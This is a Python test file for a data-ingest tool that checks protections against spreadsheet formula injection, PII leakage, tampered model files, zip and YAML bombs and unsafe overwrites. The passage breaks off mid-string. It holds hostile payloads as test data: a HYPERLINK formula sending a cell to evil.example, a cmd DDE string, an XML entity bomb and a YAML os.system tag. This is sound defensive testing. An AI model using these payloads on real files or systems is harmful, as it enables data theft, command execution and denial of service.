"""What wbcs promises about the files a user feeds it (issue 12), one test (or more) per promise.

Read this file as the list. Nothing a user, careless or hostile, gives wbcs can:

1. run as a spreadsheet formula: CSV cells starting with = + - @ tab CR get OWASP's
   leading quote, xlsx text cells are strings (one writer, ``wbcs.io.write``);
2. leak a phone number, ID number or e-mail, in any form (zero-width, dotted, dashed,
   spaced, bracketed, full-width, 15-digit IDs, 。 e-mails), in any column, numbers
   included, in any output (one masker, ``wbcs.pii``; a property test);
3. load a model file that is outside the model folder or not checksummed, or a look-alike
   of the shipped model in the current folder;
4. exhaust the machine: xlsx zip bombs and YAML anchor bombs are refused before they
   expand, every scenario value is bounded by what a run can hold (posts a day, agents,
   bursts, dates), CSV is read in chunks (memory flat with file size: BENCHMARKS.md, ingest);
5. overwrite its input or another output; 6. leave a half-written file; 7. leave a stale
   rejects file; or overwrite a committed gold sample;
8. fail a whole file for one out-of-range time (the row is rejected with its reason);
9. write a file another wbcs command cannot read;
10. end in a traceback: broken xlsx, Parquet binary/list columns, deep JSON, lone CR,
    unwritable or folder outputs, damaged, empty or read-only label stores are one line
    and exit code 2;
11. give a silently wrong result: a GBK row in a UTF-8 file, the same file twice, a text
    too long for xlsx, a 1 MB cell, concurrent imports of one label file.

Elsewhere: label-store concurrency, zeroed pages and read-only stores in
``test_labeling_store.py``; every masking form in ``test_text.py``; every ``--help``
example in ``test_cli_examples.py``; scenario bounds in the simulator's tests; chart
label escaping (12) in the viz tests.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.helpers import run_cli, run_cli_on_terminal
from wbcs.config import ROOT
from wbcs.errors import InputError
from wbcs.io import ingest, ingest_to, read_posts, read_table, write_table
from wbcs.io.write import FORMULA_START
from wbcs.yamlsafe import load_yaml

# --------------------------------------------------------------------------- 1. formula injection

FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
                 "\t=1+1", "\r=1+1", "＝1+1"]


def _csv_cells(path) -> list[list[str]]:
    import csv

    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _xlsx_cells(path) -> list:
    from openpyxl import load_workbook

    wb = load_workbook(path)  # not data_only: a formula would come back as a formula
    return [c for row in wb.active.iter_rows() for c in row]


def test_no_cell_we_write_can_run_as_a_formula(tmp_path):
    df = pd.DataFrame({"post_id": [str(i) for i in range(len(FORMULA_TEXTS))], "text": FORMULA_TEXTS,
                       "=header": FORMULA_TEXTS})
    write_table(df, tmp_path / "x.csv")
    rows = _csv_cells(tmp_path / "x.csv")
    assert rows[0] == ["post_id", "text", "'=header"]
    for row in rows[1:]:
        assert all(not c.startswith(FORMULA_START) for c in row)
        assert row[1].startswith("'") and row[1][1:] in FORMULA_TEXTS  # the text itself is kept
    write_table(df, tmp_path / "x.xlsx")
    cells = [c for c in _xlsx_cells(tmp_path / "x.xlsx") if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    assert {c.value for c in cells} >= set(FORMULA_TEXTS[:4])


@given(st.sampled_from(FORMULA_START), st.text(max_size=30))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_formula_property(tmp_path, start, rest):
    text = start + rest
    path = tmp_path / "p.csv"
    write_table(pd.DataFrame({"c": [text]}), path, mask=False)
    cell = _csv_cells(path)[1][0] if len(_csv_cells(path)) > 1 else ""
    assert not cell.startswith(FORMULA_START)


def test_ingest_of_a_hyperlink_formula_writes_no_formula(tmp_path):
    src = tmp_path / "f.csv"
    src.write_text('post_id,created_at,text\n1,2024-03-01 10:00,"=HYPERLINK(""http://evil.example/?""&A1,""x"")"\n'
                   "2,2024-03-01 10:00,\n", encoding="utf-8")
    r = run_cli("ingest", str(src), "--out", str(tmp_path / "f.xlsx"), "--rejects", str(tmp_path / "r.csv"))
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(tmp_path / "f.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    assert all(not c.startswith(FORMULA_START) for row in _csv_cells(tmp_path / "r.csv") for c in row)


# --------------------------------------------------------------------------- 2. PII never leaves

_W = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
_REGIONS = ["110105", "310104", "440305", "510107", "650102"]


@st.composite
def pii_items(draw):
    """(digits or address that must not survive, how it is written)."""
    kind = draw(st.sampled_from(["mobile", "landline", "id18", "id15", "email"]))
    if kind == "email":
        local = draw(st.from_regex(r"[a-z][a-z0-9._]{1,8}[a-z0-9]", fullmatch=True))
        domain = draw(st.sampled_from(["example.com", "qq.com", "163.com", "mail.example.cn"]))
        secret = f"{local}@{domain}"
        form = draw(st.sampled_from(["plain", "fullwidth", "ideographic dot", "zero-width"]))
        if form == "fullwidth":
            return secret, "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in secret)
        if form == "ideographic dot":
            return secret, f"{local}@{domain.replace('.', '。')}"
        if form == "zero-width":
            return secret, local[:1] + "\u200b" + secret[1:]
        return secret, secret
    if kind == "mobile":
        digits = draw(st.from_regex(r"1[3-9][0-9]{9}", fullmatch=True))
        groups = [digits[:3], digits[3:7], digits[7:]]
        prefix = draw(st.sampled_from(["", "+86 ", "0086-", "86", "+86 ("]))
        if prefix.endswith("("):
            groups[0] += ")"
    elif kind == "landline":
        area = draw(st.sampled_from(["010", "021", "0755", "0571"]))
        number = draw(st.from_regex(r"[2-8][0-9]{7}", fullmatch=True))
        digits = number  # the subscriber number is the secret; the area code is public
        groups = [area, number[:4], number[4:]]
        if draw(st.booleans()):
            groups = ["+86", area[1:], number]
        prefix = ""
    else:
        region = draw(st.sampled_from(_REGIONS))
        # a 15-digit ID is read from a birth year of 1924 (wbcs.pii: earlier ones would make order numbers of the
        # form yymmddHHMMSS... IDs; 15-digit IDs are void since 2013)
        born = draw(st.dates(min_value=date(1924 if kind == "id15" else 1920, 1, 1),
                             max_value=date(1999, 12, 31) if kind == "id15" else date(2010, 12, 31)))
        seq = draw(st.from_regex(r"[0-9]{3}", fullmatch=True))
        if kind == "id15":
            digits = f"{region}{born:%y%m%d}{seq}"
            groups = [region, digits[6:12], seq]
        else:
            body = f"{region}{born:%Y%m%d}{seq}"
            digits = body + "10X98765432"[sum(int(d) * w for d, w in zip(body, _W, strict=True)) % 11]
            groups = [region, digits[6:14], digits[14:]]
        prefix = ""
    form = draw(st.sampled_from(["plain", "groups", "one by one", "fullwidth", "zero-width"]))
    sep = draw(st.sampled_from([" ", "-", ".", "–", " - ", "—", "·", "。", "\u00a0", "\u3000"]))
    if form == "plain":
        written = "".join(groups)
    elif form == "groups":
        written = sep.join(groups)
    elif form == "one by one":
        written = " ".join("".join(groups))
    elif form == "fullwidth":
        written = "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in sep.join(groups))
    else:
        written = "\u200b".join("".join(groups))
    return digits, prefix + written


def _skeleton_digits(cell: str) -> str:
    """The digits (and X) a reader would see in a cell, whatever their form."""
    import unicodedata

    norm = unicodedata.normalize("NFKC", cell).replace("。", ".")
    return "".join(c for c in norm if c.isdigit() or c in "Xx@." or c.isalpha())


def _leaks(secret: str, cell: str) -> bool:
    seen = _skeleton_digits(cell)
    if "@" in secret:
        return secret in seen.lower()
    return secret in "".join(c for c in seen if c.isdigit() or c in "Xx")


AROUND = st.text(alphabet="投诉信号差客服电话号码身份证邮箱请联系我：，！ ", max_size=8)


@given(item=pii_items(), before=AROUND, after=AROUND, column=st.integers(0, 3),
       ext=st.sampled_from([".csv", ".jsonl", ".parquet", ".xlsx"]), as_number=st.booleans())
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_phone_id_or_email_leaves_unmasked(tmp_path, item, before, after, column, ext, as_number):
    """Any phone number, ID number or e-mail, in any of issue 12's forms, in any column
    (as a text or as a number), written in any format: the file never holds it."""
    secret, written = item
    cell = before + written + after
    value = int(written) if as_number and written.isdigit() and len(written) < 19 else cell
    df = pd.DataFrame({"post_id": ["1"], "text": ["好"], "author_id": ["u1"], "note": ["x"], "n": [1]})
    name = ["text", "author_id", "note", "n"][column]
    df[name] = pd.Series([value], dtype=object if not isinstance(value, int) else "int64")
    path = write_table(df, tmp_path / f"out{ext}")
    cells = [str(v) for v in read_back(path)]
    assert not any(_leaks(secret, c) for c in cells), (written, cells)


def read_back(path) -> list:
    if path.suffix == ".csv":
        return [c for row in _csv_cells(path) for c in row]
    if path.suffix == ".xlsx":
        return [c.value for c in _xlsx_cells(path) if c.value is not None]
    df = pd.read_parquet(path) if path.suffix == ".parquet" else pd.read_json(path, lines=True, dtype=False)
    return [v for v in df.astype(object).to_numpy().ravel().tolist() if v is not None]


def test_a_header_that_is_a_phone_number_leaves_masked(tmp_path):
    # predict copies a user's columns to its output: a header cell is a cell too
    df = pd.DataFrame({"text": ["好"], "13812345678": ["x"], "a@example.com": [1]})
    readers = {".csv": lambda p: pd.read_csv(p, encoding="utf-8-sig"), ".jsonl": lambda p: pd.read_json(p, lines=True),
               ".parquet": pd.read_parquet, ".xlsx": pd.read_excel}
    for ext, read in readers.items():
        header = read(write_table(df, tmp_path / f"out{ext}")).columns.tolist()
        assert header[:2] == ["text", "138****5678"] and "a@example.com" not in str(header), (ext, header)


def _pii_named_export(tmp_path):
    src = tmp_path / "客户13812345678.csv"
    src.write_text("微博ID,内容,发布时间,备注13812345678\n3830401296796826,好,2024-03-01 10:00,x\n"
                   "3830401296796827,,2024-03-01 10:00,y\n", encoding="utf-8")
    return src


def test_file_and_column_names_leave_masked_too(tmp_path, capsys):
    # the rejects' header, ingest --json (file keys, ignored columns) and read_posts' lines showed them whole
    src = _pii_named_export(tmp_path)
    r = run_cli("ingest", str(src), "--out", str(tmp_path / "o.csv"), "--json")
    assert r.returncode == 0, r.stderr
    rejects = (tmp_path / "o.rejects.csv").read_text(encoding="utf-8-sig")
    summary = json.loads(r.stdout)
    [(name, info)] = summary["files"].items()
    assert name == str(tmp_path / "客户138****5678.csv") and info["extra_columns"] == ["备注138****5678"]
    assert rejects.splitlines()[0].endswith(",备注138****5678")
    read_posts(src)
    err = capsys.readouterr().err
    assert "客户138****5678.csv: 1 row(s) rejected" in err
    everything = r.stdout + r.stderr + rejects + (tmp_path / "o.csv").read_text(encoding="utf-8-sig") + err
    assert "13812345678" not in everything
    # two names that mask alike stay two columns (a Parquet file cannot hold one name twice)
    twin = tmp_path / "twin.csv"
    twin.write_text("内容,发布时间,a13812345678,a13800005678\n,2024-03-01,x,y\n好,2024-03-01,x,y\n", encoding="utf-8")
    rejects = ingest_to([twin], tmp_path / "t.parquet", tmp_path / "t.rejects.parquet")
    assert pd.read_parquet(tmp_path / "t.rejects.parquet").columns[-2:].tolist() == ["a138****5678",
                                                                                 "a138****5678.1"]
    assert rejects["files"][str(twin)]["extra_columns"] == ["a138****5678", "a138****5678.1"]


def _posts_in_a_pii_named_folder(tmp_path):
    from wbcs.synth import generate_posts

    folder, out = tmp_path / "客户13812345678", tmp_path / "a@example.com"
    folder.mkdir()
    out.mkdir()
    posts = folder / "posts13912345678.csv"
    generate_posts(days=14, start="2025-02-03", posts_per_day=30, seed=3).to_csv(posts, index=False)
    return posts, out


def test_status_lines_name_the_users_files_masked(tmp_path):
    # 'wrote PATH' and 'PATH: N posts; ...' printed a folder or file named after a phone number or an e-mail whole
    posts, out = _posts_in_a_pii_named_folder(tmp_path)
    report = run_cli("report", "--posts", str(posts), "--out", str(out / "r13812345678.html"))
    sample = run_cli("label", "sample-posts", "--posts", str(posts), "--size", "5", "--out", str(out / "s.csv"))
    usage = run_cli("kpi", "--posts", str(posts), "--period", "13812345678")  # argparse echoes the value
    for r in (report, sample):
        assert r.returncode == 0, r.stderr
    assert "wrote " + str(tmp_path / "a***@example.com" / "r138****5678.html") in report.stdout
    assert sample.stdout.startswith(str(tmp_path / "客户138****5678" / "posts139****5678.csv") + ": ")
    assert usage.returncode == 2 and "'138****5678'" in usage.stderr, usage.stderr
    shown = "".join(r.stdout + r.stderr for r in (report, sample, usage))
    assert not re.search("13812345678|13912345678|a@example", shown), shown


def test_json_on_stdout_keeps_every_number(tmp_path):
    # masking stdout whole once turned floats into phone numbers (5.828059131936, 697.8633333333333 read as
    # a landline): the JSON that comes out is json.dumps of what it holds, byte for byte
    posts, _ = _posts_in_a_pii_named_folder(tmp_path)
    r = run_cli("kpi", "--posts", str(posts), "--period", "day", "--json")
    assert r.returncode == 0, r.stderr
    assert json.dumps(json.loads(r.stdout), ensure_ascii=False, indent=1) + "\n" == r.stdout
    assert "138****5678" in r.stdout and "13812345678" not in r.stdout


def test_the_cli_masks_in_process_and_gives_the_streams_back(capsys):
    # main() is called in-process by tests and notebooks: the masking streams are its own, for one command
    from wbcs.cli import main

    before = sys.stdout, sys.stderr
    with pytest.raises(SystemExit):
        main(["kpi", "--period", "a@example.com"])
    assert (sys.stdout, sys.stderr) == before
    err = capsys.readouterr().err
    assert "a***@example.com" in err and "a@example.com" not in err, err


def test_the_masked_stream_masks_a_number_written_in_pieces():
    import io

    from wbcs.cli import MaskedStream

    out = io.StringIO()
    stream = MaskedStream(out)
    stream.write("wrote /data/138")
    stream.write("12345678/x.csv")  # held: no line has ended
    assert out.getvalue() == ""
    stream.write("\nok 0.1381234567891\n")
    stream.writelines(["tel:139", "12345678\n"])
    stream.write("\r 50%|█ | 1/2 a@example.com")
    stream.flush()  # tqdm flushes each frame: shown at once
    assert out.getvalue() == ("wrote /data/138****5678/x.csv\nok 0.1381234567891\ntel:139****5678\n"
                              "\r 50%|█ | 1/2 a***@example.com")


def test_the_progress_bar_shows_file_names_masked(tmp_path):
    # with two or more files on a terminal ingest shows a progress bar whose label is the file's name
    r, shown = run_cli_on_terminal("ingest", str(_pii_named_export(tmp_path)), str(_export(tmp_path)),
                                   "--out", str(tmp_path / "o.parquet"))
    assert r.returncode == 0 and "ingest" in shown and "客户138****5678.csv" in shown, shown
    assert "13812345678" not in shown


def test_an_error_quoting_a_users_cell_or_header_is_masked(tmp_path):
    # evaluate on a file whose label cell is a phone number, and a --text-col naming a header that is an e-mail
    (tmp_path / "m.csv").write_text("text,sentiment,a@example.com\n信号差,13812345678,x\n", encoding="utf-8")
    r = run_cli("evaluate", "--data", str(tmp_path / "m.csv"), "--field", "sentiment")
    assert r.returncode == 2 and "138****5678" in r.stderr and "13812345678" not in r.stderr, r.stderr
    r = run_cli("predict", "--input", str(tmp_path / "m.csv"), "--out", str(tmp_path / "o.csv"), "--text-col", "x")
    assert r.returncode == 2 and "a@example.com" not in r.stderr and "***@example.com" in r.stderr, r.stderr


def test_numbers_in_number_columns_do_not_reach_the_rejects(tmp_path):
    """An xlsx 手机 column typed as numbers, an int64 column in Parquet: masked in rejects too."""
    frame = pd.DataFrame({"微博ID": ["3830401296796826", "3830401296796827"], "内容": ["好", None],
                          "发布时间": ["2024-03-01 10:00"] * 2, "手机": [13912345678, 13912345679]})
    frame.to_excel(tmp_path / "in.xlsx", index=False)
    frame.to_parquet(tmp_path / "in.parquet")
    for name in ("in.xlsx", "in.parquet"):
        out, rej = tmp_path / f"{name}.out.csv", tmp_path / f"{name}.rejects.csv"
        r = run_cli("ingest", str(tmp_path / name), "--out", str(out), "--rejects", str(rej))
        assert r.returncode == 0, r.stderr
        text = rej.read_text(encoding="utf-8-sig")
        assert "1391234567" not in text and "139****5679" in text


def test_predict_and_triage_mask_author_id_like_ingest(tmp_path):
    src = tmp_path / "posts.csv"
    src.write_text("post_id,created_at,text,author_id\n"
                   "3830401296796826,2024-03-01 10:00,宽带断了 邮箱 ａｌｉｃｅ＠ｅｘａｍｐｌｅ．ｃｏｍ,13812345678\n"
                   "3830401296796827,2024-03-01 11:00,信号差 138.1234.5678,alice@qq。com\n", encoding="utf-8")
    r = run_cli("predict", "--input", str(src), "--out", str(tmp_path / "p.csv"))
    assert r.returncode == 0, r.stderr
    r = run_cli("triage", "--posts", str(src), "--out", str(tmp_path / "t.csv"), "--alerts", str(tmp_path / "a.csv"))
    assert r.returncode == 0, r.stderr
    for name in ("p.csv", "t.csv", "a.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8-sig")
        assert "12345678" not in text.replace(".", "") and "alice" not in text, name
    assert "138****5678" in (tmp_path / "p.csv").read_text(encoding="utf-8-sig")


# --------------------------------------------------------------------------- 3. model integrity


@pytest.fixture(scope="module")
def tiny_model():
    from tests.test_classify_baseline import LABELS, TEXTS
    from wbcs.classify import PostClassifier, TextClassifier

    return PostClassifier({"sentiment": TextClassifier().fit(TEXTS, LABELS)}, card={"name": "tiny"})


def _edit_manifest(path, fn):
    manifest = json.loads((path / "manifest.json").read_text())
    fn(manifest)
    (path / "manifest.json").write_text(json.dumps(manifest))


def test_every_file_the_loader_opens_is_inside_and_verified(tmp_path, tiny_model):
    from wbcs.classify import load_model, save_model
    from wbcs.classify.registry import sha256

    outside = tmp_path / "outside.skops"
    model = save_model(tiny_model, tmp_path / "m" / "1")
    outside.write_bytes((model / "sentiment.skops").read_bytes())

    def point_outside(listed: bool):
        def fn(m):
            m["fields"]["sentiment"]["path"] = "../../outside.skops"
            if listed:
                m["files"]["../../outside.skops"] = sha256(outside)
        return fn

    for listed in (False, True):  # '../../outside.skops', checksummed or not
        path = save_model(tiny_model, tmp_path / f"out{listed}" / "1")
        _edit_manifest(path, point_outside(listed))
        with pytest.raises(InputError, match="points outside the model folder"):
            load_model(path)

    path = save_model(tiny_model, tmp_path / "link" / "1")  # a link inside that leads outside
    (path / "sentiment.skops").unlink()
    (path / "sentiment.skops").symlink_to(outside)
    with pytest.raises(InputError, match="points outside the model folder"):
        load_model(path)

    path = save_model(tiny_model, tmp_path / "unlisted" / "1")  # a field file without a checksum
    (path / "other.skops").write_bytes((path / "sentiment.skops").read_bytes())
    _edit_manifest(path, lambda m: m["fields"]["sentiment"].update(path="other.skops"))
    with pytest.raises(InputError, match="other.skops: not listed with a checksum"):
        load_model(path)

    path = save_model(tiny_model, tmp_path / "nofiles" / "1")
    _edit_manifest(path, lambda m: m.pop("files"))
    with pytest.raises(InputError, match="no 'files' with the SHA-256"):
        load_model(path)


def test_the_shipped_model_is_found_by_the_package_not_the_current_folder(tmp_path, tiny_model, monkeypatch):
    from wbcs.classify import save_model
    from wbcs.classify.registry import MODELS_DIR, model_dir

    save_model(tiny_model, tmp_path / "wbcs-default")  # a look-alike in the current folder
    monkeypatch.chdir(tmp_path)
    shipped = model_dir(None)
    assert shipped.is_relative_to(MODELS_DIR) and shipped.parent.name == "wbcs-default"
    assert model_dir("./wbcs-default") == Path("wbcs-default")  # named as a path, it is used


# --------------------------------------------------------------------------- 4. resource bombs: bounded readers


def _xlsx(path, rows=(("微博ID", "内容", "发布时间"), ("3830401296796826", "好", "2024-03-01 10:00"))):
    from openpyxl import Workbook

    wb = Workbook()
    for r in rows:
        wb.active.append(list(r))
    wb.save(path)
    return path


def _rezip(src, dst, replace: dict, drop=()):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
    return dst


def test_xlsx_zip_bomb_is_refused_before_unpacking(tmp_path, monkeypatch):
    import wbcs.io.read as rd

    good = _xlsx(tmp_path / "good.xlsx")
    sheet = zipfile.ZipFile(good).read("xl/worksheets/sheet1.xml")
    bomb = sheet.replace(b"</sheetData>", b"<!--" + b" " * (64 << 20) + b"--></sheetData>")
    _rezip(good, tmp_path / "bomb.xlsx", {"xl/worksheets/sheet1.xml": bomb})
    assert (tmp_path / "bomb.xlsx").stat().st_size < 200_000  # 64 MB of sheet in a small file
    monkeypatch.setattr(rd, "XLSX_MAX_UNPACKED", 32 << 20)  # the real bound is 1 GiB
    with pytest.raises(InputError, match=r"bomb.xlsx: unpacks to 0.1 GiB .*save the sheet as CSV"):
        read_table(tmp_path / "bomb.xlsx")
    assert read_table(good)["内容"].tolist() == ["好"]


def test_a_lying_zip_size_cannot_unpack_more_than_declared(tmp_path):
    """zipfile stops at the declared size (and the CRC fails): the bound on declared sizes holds."""
    good = _xlsx(tmp_path / "good.xlsx")
    raw = bytearray(good.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    cd = raw.rindex(b"PK\x01\x02", 0, raw.rindex(name))  # its central directory entry
    raw[cd + 24:cd + 28] = (10).to_bytes(4, "little")  # declares 10 bytes unpacked
    (tmp_path / "liar.xlsx").write_bytes(bytes(raw))
    with pytest.raises(InputError, match="liar.xlsx: damaged"):
        read_table(tmp_path / "liar.xlsx")


@pytest.mark.parametrize("case", ["bad sheet xml", "no sheet", "broken workbook.xml", "dtd entities"])
def test_broken_xlsx_is_one_line(tmp_path, case):
    good = _xlsx(tmp_path / "good.xlsx")
    z = zipfile.ZipFile(good)
    sheet, book = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
    if case == "bad sheet xml":
        bad = _rezip(good, tmp_path / "bad.xlsx", {sheet: z.read(sheet)[:200]})
    elif case == "no sheet":
        bad = _rezip(good, tmp_path / "bad.xlsx", {book: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", z.read(book))})
    elif case == "broken workbook.xml":
        bad = _rezip(good, tmp_path / "bad.xlsx", {book: b"<workbook xmlns="})
    else:
        entity = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>')
        body = re.sub(rb"^<\?xml[^>]*\?>", b"", z.read(sheet)).replace(b"<sheetData>", b"<sheetData>&b;", 1)
        bad = _rezip(good, tmp_path / "bad.xlsx", {sheet: entity + body})
    with pytest.raises(InputError) as e:
        read_table(bad)
    assert str(bad) in str(e.value) and "\n" not in str(e.value)
    if case == "dtd entities":
        r = run_cli("ingest", str(bad), "--out", str(tmp_path / "o.parquet"))
        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr


def test_csv_is_read_in_chunks_with_the_same_result(tmp_path, monkeypatch):
    import wbcs.io.read as rd

    rows = "".join(f"38304012967968{i:02d},第{i}条 电话1381234{i:04d},2024-03-01 10:{i % 60:02d}\n"
                   for i in range(95))
    src = tmp_path / "a.csv"
    src.write_text("微博ID,内容,发布时间\n" + rows + "3830401296796800,重复,2024-03-01\n", encoding="gbk")
    whole = ingest([src])
    monkeypatch.setattr(rd, "CHUNK_ROWS", 7)
    assert sum(1 for _ in rd.open_table(src).chunks()) == 14
    chunked = ingest([src])
    pd.testing.assert_frame_equal(whole.posts, chunked.posts)
    pd.testing.assert_frame_equal(whole.rejects, chunked.rejects)
    assert chunked.rejects["reason"].tolist() == ["duplicate id"]  # across chunks
    out = tmp_path / "o.parquet"
    ingest_to([src], out, tmp_path / "o.rejects.csv")
    pd.testing.assert_frame_equal(pd.read_parquet(out), whole.posts, check_dtype=False)


def test_json_nested_100k_deep_is_a_rejected_record_not_a_traceback(tmp_path):
    src = tmp_path / "a.jsonl"
    src.write_text('{"mid": "3830401296796826", "内容": "好", "时间": "2024-03-01"}\n'
                   '{"mid": "3830401296796827", "内容": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
                   encoding="utf-8")
    result = ingest([src])
    assert result.posts["text"].tolist() == ["好"]
    assert result.rejects["detail"].tolist() == ["nested too deeply to read"]
    (tmp_path / "b.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(InputError, match="b.json"):
        ingest([tmp_path / "b.json"])


@pytest.mark.parametrize("kind", ["binary", "list"])
def test_parquet_binary_or_list_text_column_is_one_line(tmp_path, kind):
    values = [b"\xe5\xa5\xbd", b"x"] if kind == "binary" else [["a", "b"], ["c"]]
    pd.DataFrame({"post_id": ["1", "2"], "created_at": ["2024-03-01"] * 2, "text": values}).to_parquet(
        tmp_path / "a.parquet")
    r = run_cli("ingest", str(tmp_path / "a.parquet"), "--out", str(tmp_path / "o.csv"))
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "column 'text' (text) holds" in r.stderr and ("binary" in r.stderr or "list" in r.stderr)


def test_csv_lone_cr_and_a_1_mb_cell(tmp_path):
    big = "长" * 1_000_000
    src = tmp_path / "a.csv"
    src.write_text("post_id,created_at,text\n3830401296796826,2024-03-01,\"a\rb\"\n"
                   f"3830401296796827,2024-03-01,{big}\n"
                   f"3830401296796828,2024-03-01,\"{'x' * (17 << 20)}\"\n3830401296796829,2024-03-01,ok\n",
                   encoding="utf-8")
    result = ingest([src])
    assert result.posts["text"].tolist() == ["a\rb", big, "ok"]
    assert result.rejects["reason"].tolist() == ["malformed line"]  # only the 17 M-character cell
    assert "longer than 16,777,216 characters" in result.rejects["detail"].iloc[0]




def _anchor_bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + f"\nname: *a{levels - 1}\n"


def test_yaml_anchor_bomb_is_refused_before_it_expands(tmp_path):
    path = tmp_path / "scenario.yaml"
    path.write_text(_anchor_bomb(), encoding="utf-8")
    assert path.stat().st_size < 2000  # ~1 KB that would expand to 9^9 values
    with pytest.raises(InputError, match=r"scenario.yaml: expands to [\d,]+ values"):
        load_yaml(path)
    # ordinary anchors and aliases still work
    assert load_yaml("x.yaml", text="a: &x [1, 2]\nb: *x\n") == {"a": [1, 2], "b": [1, 2]}


@pytest.mark.parametrize("content, message", [
    (b"a: [\n", "not valid YAML"),
    (b"[" * 100_000, "nested too deeply|not valid YAML"),
    ("名字: 测试\n".encode("gbk"), "not UTF-8"),
    (b"a: !!python/object/apply:os.system ['true']\n", "not valid YAML"),
])
def test_yaml_errors_are_one_line(tmp_path, content, message):
    path = tmp_path / "bad.yaml"
    path.write_bytes(content)
    with pytest.raises(InputError, match=message) as e:
        load_yaml(path)
    assert str(path) in str(e.value) and "\n" not in str(e.value)
    with pytest.raises(InputError, match="a folder"):
        load_yaml(tmp_path)


# --------------------------------------------------------------------------- 5-7. the user's files


def _export(tmp_path, name="export.csv", rows=2):
    path = tmp_path / name
    path.write_text("微博ID,内容,发布时间\n" + "".join(f"38304012967968{i:02d},第{i}条,2024-03-01 10:00\n"
                                                    for i in range(rows)) + "3830401296796899,,2024-03-01\n",
                    encoding="utf-8")
    return path


def test_no_output_may_overwrite_an_input_or_another_output(tmp_path):
    src = _export(tmp_path)
    before = src.read_bytes()
    link = tmp_path / "link.csv"
    link.symlink_to(src)
    hard = tmp_path / "hard.csv"
    os.link(src, hard)
    cases = [["--out", str(tmp_path / "p.parquet"), "--rejects", str(src)],
             ["--out", str(tmp_path / "same.csv"), "--rejects", str(tmp_path / "same.csv")],
             ["--out", str(src)], ["--out", str(link)], ["--out", str(hard)],
             ["--out", str(tmp_path / "sub" / ".." / "export.csv")]]
    for args in cases:
        r = run_cli("ingest", str(src), *args)
        assert r.returncode == 2, (args, r.stdout, r.stderr)
        assert len(r.stderr.strip().splitlines()) == 1 and ("is the input file" in r.stderr
                                                            or "is also the --out file" in r.stderr), r.stderr
        assert src.read_bytes() == before
    assert not (tmp_path / "p.parquet").exists() and not (tmp_path / "same.csv").exists()


@pytest.mark.parametrize("command", [
    ["predict", "--input", "{src}", "--out", "{src}"],
    ["triage", "--posts", "{src}", "--out", "{tmp}/t.csv", "--alerts", "{tmp}/t.csv"],
])
def test_other_commands_refuse_to_overwrite_too(tmp_path, command):
    src = _export(tmp_path)
    before = src.read_bytes()
    r = run_cli(*[a.format(src=src, tmp=tmp_path) for a in command])
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert src.read_bytes() == before


def test_label_sample_never_overwrites_a_committed_sample(tmp_path):
    from wbcs.config import DATA_DIR

    committed = DATA_DIR / "labels" / "gold_sample.csv"
    before = committed.read_bytes()
    r = run_cli("label", "sample", "--size", "10", "--out", str(committed))
    assert r.returncode == 2 and "a committed sample" in r.stderr and "--force" in r.stderr, r.stderr
    assert committed.read_bytes() == before
    mine = tmp_path / "mine.csv"
    mine.write_text("post_id\n1\n")
    r = run_cli("label", "sample", "--size", "10", "--out", str(mine))
    assert r.returncode == 2 and "exists" in r.stderr and mine.read_text() == "post_id\n1\n"


def test_unwritable_or_folder_outputs_are_one_line(tmp_path):
    src = _export(tmp_path)
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    cases = [(tmp_path, "is a folder"), (src / "p.parquet", "is a file, not a folder")]
    if os.geteuid() != 0:  # root writes anywhere
        cases.append((locked / "p.parquet", "permission denied"))
    try:
        for out, message in cases:
            r = run_cli("ingest", str(src), "--out", str(out))
            assert r.returncode == 2 and message in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
    finally:
        locked.chmod(0o700)


def test_a_failed_write_leaves_the_previous_file(tmp_path):
    path = tmp_path / "out.xlsx"
    write_table(pd.DataFrame({"text": ["good"]}), path)
    before = path.read_bytes()
    with pytest.raises(InputError, match=r"row 2, column 'text': 40,000 characters"):
        write_table(pd.DataFrame({"text": ["ok", "x" * 40_000]}), path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temporary file left


_FILE_SIZE_LIMIT = """import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write beyond the limit then fails (EFBIG) as on a full disk
